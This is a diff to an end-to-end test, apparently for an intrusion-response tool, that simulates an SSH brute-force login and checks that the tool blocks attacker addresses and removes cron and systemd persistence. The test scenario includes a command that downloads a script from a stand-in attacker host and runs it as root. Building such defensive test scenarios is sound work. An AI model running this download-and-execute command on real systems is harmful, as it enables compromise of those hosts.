@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { lacksKernel } from '../live/kernel.ts';
 import { lacksScenario } from '../scenario-host.ts';
+import { reported } from './report.ts';
 import { attacker, depot, greeting, ordinaryLoad, pool, prove, type Scene, serveFiles, servePool, serveSsh, ssh, startScene } from './scene.ts';
 
 const word = 'harbour2024';
@@ -45,7 +46,7 @@ describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/
     expect(guesses.some(({ code }) => code === 0)).toBe(false);
     await scene.until('the guessing to be told', () => scene.watch.alerts.some(({ rule_id }) => rule_id === 'ssh_brute_force'));
     expect(await ssh(host, attacker, 'root', word, `cd /tmp && curl -fsS http://${depot}/go.sh -o go.sh && bash go.sh`)).toMatchObject({ code: 0 });
-    await prove(scene, {
+    const { incident, plan } = await prove(scene, {
       entry: { kind: 'login', address: attacker, user: 'root' }, level: 'critical', grade: 2,
       steps: [
         'freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`,
@@ -57,5 +58,6 @@ describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/
       stays: [/^\/etc\/systemd\/system\/(?:sysmon\.service|\.moat-\w+sysmon\.service\.aside)$/, /^\/var\/spool\/cron\/crontabs\/root$/],
       after: () => { expect(readFileSync(join(host.root, 'var/spool/cron/crontabs/root'), 'utf8').split('\n').filter((line) => line !== '' && !line.startsWith('#'))).toEqual([job]); },
     });
+    reported(scene, incident, plan, { says: [attacker, depot, pool, 'sysmon.service', '/etc/cron.d/sysmon', `${place}/job`] });
   });
 });
